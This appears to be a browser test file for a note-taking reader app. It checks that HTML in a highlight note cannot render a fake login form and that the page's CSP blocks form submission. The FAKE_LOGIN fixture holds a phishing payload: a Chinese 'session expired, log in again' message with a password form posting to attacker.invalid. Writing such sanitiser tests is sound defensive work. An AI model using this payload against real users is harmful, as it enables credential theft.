// Issue 14: a note written as HTML could draw a fake login form in the reader.
// The sanitiser drops forms, inputs and buttons; the page's CSP forbids form
// submission besides.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { importText, startServer } from '../support/server.mjs';
import { launchBrowser } from '../support/browser.mjs';
import { App } from '../pages/App.mjs';
import { ReaderPage } from '../pages/ReaderPage.mjs';
import { ARTICLE, PASSAGE } from '../fixtures/article.mjs';

const FAKE_LOGIN =
  '会话已过期，请重新登录\n\n<form action="http://attacker.invalid/"><input type="password" placeholder="密码">' +
  '<button type="submit">登录</button></form>';

let server, browser, app, reader, articleId;

before(async () => {
  server = await startServer();
  articleId = await importText(server, 'forms.txt', ARTICLE);
  const { text } = await server.api('getArticle', { id: articleId });
  const chars = [...text];
  const start = chars.findIndex((_, i) => chars.slice(i, i + [...PASSAGE].length).join('') === PASSAGE);
  await server.api('addHighlight', { articleId, start, end: start + [...PASSAGE].length, note: FAKE_LOGIN });
  browser = await launchBrowser();
  app = new App(browser.page, server);
  reader = new ReaderPage(browser.page);
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

test('a note cannot draw a login form, and the page may not submit one', async () => {
  const response = await browser.page.goto(server.url);
  assert.match(response.headers()['content-security-policy'] ?? '', /form-action 'none'/);
  await app.open(`#/article/${articleId}`);
  await reader.waitDrawn();
  const note = reader.notes.locator('.note-item', { hasText: PASSAGE });
  await note.waitFor();
  assert.match(await note.innerText(), /请重新登录/);
  const md = note.locator('.note-md');
  assert.equal(await md.locator('form, input, button, textarea, select').count(), 0, await md.innerHTML());
});
